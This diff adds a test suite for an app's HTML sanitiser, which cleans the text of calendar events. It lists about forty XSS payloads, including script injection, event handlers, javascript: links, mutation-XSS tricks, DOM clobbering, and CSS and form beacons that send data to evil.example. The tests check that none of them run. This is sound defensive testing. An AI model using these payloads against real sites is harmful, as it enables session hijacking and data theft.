@@ -1,0 +1,181 @@
+import { afterEach, describe, expect, test } from 'vitest'
+import { cleanHtml, EventBody } from '#src/features/reservations/event-body.tsx'
+import { createWorld, scriptServices } from '#tests/services/scripted-services.ts'
+import { renderScreen } from '#tests/screens/render-screen.tsx'
+
+const written = (html: string): string => {
+  const holder = document.createElement('div')
+  holder.append(cleanHtml(html).content)
+  return holder.innerHTML
+}
+
+/** What must do nothing, whatever is left of it. `window.pwned` is what each would do. */
+const attacks: Readonly<Record<string, string>> = {
+  'a script': '<script>window.pwned = 1</script>',
+  'a script in another case': '<ScRiPt SRC="https://evil.example/x.js"></sCrIpT>',
+  'an event handler': '<img src="x" onerror="window.pwned = 1">',
+  'a handler on any element': '<p onclick="window.pwned=1" onmouseover="window.pwned=1">x</p>',
+  'a handler that starts by itself': '<details open ontoggle="window.pwned=1">x</details>',
+  'a javascript link': '<a href="javascript:window.pwned=1">x</a>',
+  'a javascript link with a tab in it': '<a href="java&#x09;script:window.pwned=1">x</a>',
+  'a javascript link in entities': '<a href="&#106;avascript&colon;window.pwned=1">x</a>',
+  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
+  'a data page': '<a href="data:text/html,<script>window.pwned=1</script>">x</a>',
+  'a data page in base64': '<a href="data:text/html;base64,PHNjcmlwdD4x">x</a>',
+  'a file': '<a href="file:///etc/passwd">x</a>',
+  'a plain link': '<a href="http://evil.example/">x</a>',
+  'an address without scheme': '<a href="//evil.example/x">x</a>',
+  'a drawing':
+    '<svg onload="window.pwned=1"><script>window.pwned=1</script><image href="https://evil.example/x"/></svg>',
+  'a drawing in an image': '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+  'a formula': '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1">',
+  'a style':
+    '<style>@import "https://evil.example/x.css"; p { background: url(https://evil.example/x) }</style><p>x</p>',
+  'a style of an element': '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
+  'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
+  'a beacon by attribute selector': '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
+  'a background attribute':
+    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
+  'a form':
+    '<form action="https://evil.example/"><input name="password"><button formaction="https://evil.example/">x</button></form>',
+  'a frame': '<iframe src="https://evil.example/" srcdoc="<script>window.pwned=1</script>"></iframe>',
+  'an object': '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
+  'a base': '<base href="https://evil.example/"><a href="x">x</a>',
+  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  'a picture with sources':
+    '<picture><source srcset="https://evil.example/x"><img srcset="https://evil.example/y"></picture>',
+  'a video': '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>',
+  'a sound': '<audio src="https://evil.example/x" autoplay></audio>',
+  'a ping': '<a href="https://good.example/" ping="https://evil.example/">x</a>',
+  'a template': '<template><script>window.pwned=1</script></template>',
+  'a comment of old browsers': '<!--[if IE]><script>window.pwned=1</script><![endif]-->',
+  'a clobbered document': '<img name="cookie" id="cookie"><a id="__sandbox" name="getElementById">x</a>',
+  'a mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
+  'a mutation through math and style':
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=window.pwned=1></style></annotation-xml></math>',
+  'a mutation through svg': '<svg></p><style><a id="</style><img src=x onerror=window.pwned=1>">',
+  'a mutation through a table': '<table><td><svg><desc><td><img src=x onerror=window.pwned=1></desc></svg></table>',
+  'a mutation through a form':
+    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>',
+  'a mutation through xmp': '<xmp><p title="</xmp><img src=x onerror=window.pwned=1>">',
+  'nested deeply': `${'<div>'.repeat(300)}<img src=x onerror=window.pwned=1>`,
+  'half a tag': '<p>x<img src=x onerror=window.pwned=1',
+}
+
+const permitted =
+  /^(?:a|abbr|b|blockquote|br|code|del|div|em|hr|i|img|ins|li|ol|p|pre|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)$/
+
+const never = /(?!)/
+const any = /^/
+/** The attributes that may be left, and what they may say. */
+const harmless: Readonly<Record<string, RegExp>> = {
+  href: /^(?:https:|mailto:)/,
+  src: /^data:image\/(?:png|jpeg|gif|webp);/,
+  title: any,
+  alt: any,
+  colspan: any,
+  rowspan: any,
+  dir: any,
+  start: any,
+  rel: any,
+  target: any,
+}
+
+afterEach(() => {
+  document.body.replaceChildren()
+  Reflect.deleteProperty(window, 'pwned')
+})
+
+describe('decisions, account and security: text of events is sanitised', () => {
+  test.each(Object.entries(attacks))('%s does nothing', async (_, html) => {
+    const { content } = cleanHtml(html)
+    const all = [...content.querySelectorAll('*')]
+    expect(all.map(({ localName }) => localName).filter((name) => !permitted.test(name))).toEqual([])
+    const attributes = all.flatMap((element) => [...element.attributes])
+    expect(attributes.filter(({ name, value }) => !(harmless[name] ?? never).test(value))).toEqual([])
+    // In the page, parsed a second time, as a careless reader would: nothing wakes up.
+    const holder = document.createElement('div')
+    document.body.append(holder)
+    holder.append(content)
+    const twice = document.createElement('div')
+    document.body.append(twice)
+    twice.innerHTML = holder.innerHTML
+    for (const element of document.body.querySelectorAll<HTMLElement>('a, p, div')) element.click()
+    await new Promise((resolve) => requestAnimationFrame(resolve))
+    expect('pwned' in window).toBe(false)
+    expect(document.body.innerHTML).not.toMatch(/evil\.example|<script|onerror|javascript:/i)
+  })
+
+  test('what is meant well stays: words, lists, tables, emphasis', () => {
+    expect(written('<p>Bring <b>drawings</b></p><ul><li>Costs</li></ul>')).toBe(
+      '<p>Bring <b>drawings</b></p><ul><li>Costs</li></ul>',
+    )
+    expect(written('<h1>Plan</h1>')).toBe('<p><strong>Plan</strong></p>')
+    expect(written('<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>')).toContain('colspan="2"')
+  })
+
+  test('links lead to secure pages and mailboxes, in a window that knows nothing of this one', () => {
+    const link = cleanHtml('<a href="https://good.example/plan">plan</a>').content.querySelector('a')
+    expect(link).toMatchObject({ href: 'https://good.example/plan', target: '_blank' })
+    expect(link?.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']))
+    expect(written('<a href="mailto:eva@example.com">Eva</a>')).toContain('mailto:eva@example.com')
+  })
+
+  test('nothing is loaded: a remote image is told of, and its element is empty', async () => {
+    const { content, images } = cleanHtml(
+      '<p><img src="https://tracker.invalid/open.gif" alt="Plan"><img src="http://tracker.invalid/old.gif"></p>',
+    )
+    document.body.append(content)
+    expect([...images.values()].map(({ url, description }) => [url.href, description])).toEqual([
+      ['https://tracker.invalid/open.gif', 'Plan'],
+    ])
+    expect(document.body.querySelectorAll('img[src]')).toHaveLength(0)
+    // One picture asked for on purpose: what was asked for before it has left its trace by the time it has failed.
+    const control = new Image()
+    const failed = new Promise((resolve) => control.addEventListener('error', resolve, { once: true }))
+    control.src = 'https://tracker.invalid/control.gif'
+    await failed
+    const asked = performance.getEntriesByType('resource').map(({ name }) => name)
+    expect(asked.filter((name) => name.includes('tracker.invalid'))).toEqual([control.src])
+  })
+
+  test('a picture that came with the text is shown', () => {
+    const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=='
+    const { content, images } = cleanHtml(`<img src="${pixel}" alt="dot">`)
+    expect(content.querySelector('img')?.getAttribute('src')).toBe(pixel)
+    expect(images.size).toBe(0)
+  })
+})
+
+describe('300 kB of hostile text', () => {
+  test.each(['<b></p>', '<a><b>', '<b x=#><p>', '<div>', '<a ', '<table><tr><td>'])(
+    'of %s is cleaned without freezing the page, and is said to be cut',
+    (piece) => {
+      let text = ''
+      for (let count = 0; text.length < 300_000; count++) text += piece.replace('#', String(count))
+      const before = performance.now()
+      const { isWhole } = cleanHtml(text)
+      expect(performance.now() - before).toBeLessThan(3_000)
+      expect(isWhole).toBe(false)
+    },
+  )
+
+  test('shows its beginning, and says that there is more', async () => {
+    const { services } = scriptServices(await createWorld())
+    const html = `<p>Bring pens</p>${'<b></p>'.repeat(40_000)}`
+    const { getByText } = await renderScreen(services, <EventBody html={html} preview="" />)
+    await expect.element(getByText('Bring pens')).toBeVisible()
+    await expect.element(getByText('This text is too long. Only its beginning is shown.')).toBeVisible()
+  })
+
+  test('shows more on request, for a long thread of mails', async () => {
+    const { services } = scriptServices(await createWorld())
+    const mails = Array.from({ length: 2_000 }, (_, index) => `<p>Mail ${index + 1}.</p>`).join('')
+    const { getByText, getByRole } = await renderScreen(services, <EventBody html={mails} preview="" />)
+    await expect.element(getByText('Mail 900.')).toBeVisible()
+    await expect.element(getByText('Mail 1800.')).not.toBeInTheDocument()
+    await getByRole('button', { name: 'Show more text' }).click()
+    await expect.element(getByText('Mail 1800.')).toBeVisible()
+    await expect.element(getByText('This text is too long')).not.toBeInTheDocument()
+  })
+})
